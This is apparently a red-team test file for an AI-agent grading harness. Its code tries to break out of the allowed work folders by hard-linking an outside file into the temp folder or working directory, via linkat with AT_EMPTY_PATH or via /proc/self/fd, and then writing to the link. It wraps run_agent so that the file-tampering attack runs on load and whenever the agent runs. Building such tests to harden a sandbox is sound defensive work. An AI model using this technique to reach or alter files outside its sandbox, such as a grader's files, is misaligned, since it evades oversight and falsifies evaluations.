# Red team: give a file outside the work folders a name inside them without naming its path in the
# link call: open it read-only, then linkat it by descriptor (AT_EMPTY_PATH) or through
# /proc/self/fd (AT_SYMLINK_FOLLOW) into the temporary folder, and write to the new name. Where the
# temporary folder shares a file system with the instructor's files (reduced mode), the link would be
# the instructor's file itself.
import ctypes
import os
import tempfile

#@@INCLUDE:_common.py@@

_libc = ctypes.CDLL(None, use_errno=True)
AT_EMPTY_PATH = 0x1000
DECOY = "@@OUTSIDE@@/decoy_hardlink_dirfd.txt"


def _linkat_empty(fd, folder, name):
    if _libc.linkat(fd, b"", folder, name.encode(), AT_EMPTY_PATH) != 0:
        raise OSError(ctypes.get_errno(), "linkat")


def _append(path):
    with open(path, "a") as f:
        f.write("PWNED @@MARKER@@\n")


def attack(when):
    fd = _try("open", os.open, DECOY, os.O_RDONLY)
    if fd is None:
        return
    for folder in (tempfile.gettempdir(), os.getcwd()):
        here = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
        try:
            _try("procfd", lambda: os.link(f"/proc/self/fd/{fd}", f"{when}-a", dst_dir_fd=here, follow_symlinks=True))
            _try("empty", _linkat_empty, fd, here, f"{when}-b")
        finally:
            os.close(here)
        for name in ("a", "b"):
            _try(f"write-{name}", _append, os.path.join(folder, f"{when}-{name}"))
    os.close(fd)


#@@INCLUDE:_starter.py@@

_honest_run_agent = run_agent


def run_agent(task, tools, call_model, execute_tool):
    attack("run")
    return _honest_run_agent(task, tools, call_model, execute_tool)


attack("load")
